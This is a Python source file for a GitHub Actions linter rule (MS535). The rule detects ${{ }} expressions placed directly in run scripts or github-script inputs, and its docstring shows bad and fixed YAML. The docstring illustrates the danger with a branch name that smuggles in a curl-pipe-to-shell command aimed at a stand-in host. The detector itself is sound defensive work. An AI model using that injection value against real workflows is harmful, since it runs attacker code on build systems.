"""A script holds no expression.

GitHub writes the value into the script before the shell reads it, so a branch called `"; curl evil.sh | sh; "` is a
command. A variable of `env` is data to the shell, whatever it holds.

Bad:

    jobs:
      check:
        steps:
          - run: uv run --no-sync mlops-spec plan --base ${{ github.event.before }}

Good:

    jobs:
      check:
        steps:
          - run: uv run --no-sync mlops-spec plan --base "${BASE}"
            env:
              BASE: ${{ github.event.before }}

Fix: set it in the step's `env`, and write `"${NAME}"` in the script.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from mlops_spec.document.finding import Finding
from mlops_spec.platforms.github.workflow.expression import EXPRESSION
from mlops_spec.platforms.github.workflow.typed import text

if TYPE_CHECKING:
    from collections.abc import Iterator

    from mlops_spec.document.diagnostic import Severity
    from mlops_spec.platforms.github.workflow.jobs import Workflow

CODE = "MS535"
NAME = "expression-in-script"
SEVERITY: Severity = "error"


def check(workflow: Workflow) -> Iterator[Finding]:
    for job in workflow.jobs.values():
        for step in job.steps:
            script = text(step.inputs.get("script")) if step.uses_action("actions/github-script") else ""
            for place, code in (((*step.address, "run"), step.run), ((*step.address, "with", "script"), script)):
                if match := EXPRESSION.search(code):
                    message = "the value becomes part of the script before the shell reads it"
                    hint = 'set it in `env`, and write `"${NAME}"` here'
                    yield Finding(place, message, hint, piece=match[0].splitlines()[0])
